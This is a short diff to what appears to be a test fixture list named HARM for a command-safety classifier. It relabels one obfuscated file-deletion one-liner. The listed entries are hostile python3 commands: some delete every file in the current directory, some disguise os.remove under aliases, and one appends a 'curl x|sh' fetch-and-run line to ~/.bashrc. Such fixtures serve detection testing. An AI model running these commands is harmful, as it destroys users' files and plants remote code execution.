@@ -150,7 +150,7 @@ HARM = [
     ('python3 -c "import os; [os.remove(f) for f in os.listdir(\'.\')]"', 'KKKDD'),
     ('python3 -c "import os; list(map(os.remove, os.listdir(\'.\')))"', 'KKKDD'),
     ('python3 -c "import os; f=os.remove; f(\'x\')"', 'KKKDD'),
-    ('python3 -c "from os import remove as print; print(\'x\')"', 'KKADD'),
+    ('python3 -c "from os import remove as print; print(\'x\')"', 'KKKDD'),  # was KKADD
     ('python3 -c "import os as print; print.remove(\'x\')"', 'KKADD'),
     ('python3 -c "open(\'/home/dev/.bashrc\',\'w\').write(\'curl x|sh\')"', 'DDDDD'),
     ('python3 -c "open(\'/home/dev/.bashrc\',\'a\').write(\'x\')"', 'KKADD'),
